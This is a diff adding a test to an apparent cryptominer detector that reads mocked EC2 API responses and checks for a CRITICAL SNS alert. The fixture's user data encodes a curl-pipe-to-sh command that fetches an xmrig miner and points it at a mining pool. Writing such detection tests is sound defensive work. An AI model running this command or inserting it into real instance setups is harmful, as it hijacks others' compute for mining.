@@ -84,6 +84,28 @@ describe('the bundled detector', () => {
     expect(output).not.toContain('settings.json');
   });
 
+  it('reads what EC2 answers, with the part of the client that is left in the bundle', async () => {
+    const miner = Buffer.from('curl -s https://example.com/xmrig | sh -s stratum+tcp://pool.supportxmr.com:3333');
+    const ec2: Readonly<Record<string, string>> = {
+      DescribeInstances:
+        '<reservationSet><item><reservationId>r-0123456789abcdef0</reservationId><instancesSet><item><instanceId>i-0123456789abcdef0</instanceId><imageId>ami-0123456789abcdef0</imageId><instanceType>c5.metal</instanceType><launchTime>2026-11-20T14:03:11.000Z</launchTime><instanceState><name>running</name></instanceState><tagSet><item><key>Project</key><value>cheap</value></item></tagSet></item></instancesSet></item></reservationSet>',
+      DescribeInstanceTypes:
+        '<instanceTypeSet><item><instanceType>c5.metal</instanceType><bareMetal>true</bareMetal><vCpuInfo><defaultVCpus>96</defaultVCpus></vCpuInfo></item></instanceTypeSet>',
+      DescribeImages:
+        '<imagesSet><item><imageId>ami-0123456789abcdef0</imageId><imageOwnerId>210987654321</imageOwnerId><name>lent</name></item></imagesSet>',
+      DescribeInstanceAttribute: `<instanceId>i-0123456789abcdef0</instanceId><userData><value>${miner.toString('base64')}</value></userData>`,
+    };
+    const { mails } = await invoke({}, ({ operation }) => {
+      if (operation === 'Publish') return { body: published };
+      const answer = ec2[operation];
+      return answer === undefined ? denied : { body: `<${operation}Response>${answer}</${operation}Response>` };
+    });
+    const [mail] = mails;
+    expect(mail?.get('Subject')).toMatch(/^\[CRITICAL\] .*c5\.metal/);
+    for (const fact of ['miner', 'ami-0123456789abcdef0', '210987654321', 'Project'])
+      expect(mail?.get('Message')).toContain(fact);
+  });
+
   it('gives the message back where SNS refuses', async () => {
     const { answer } = await invoke({}, () => denied);
     expect(answer).toEqual({ batchItemFailures: [{ itemIdentifier: 'm1' }] });
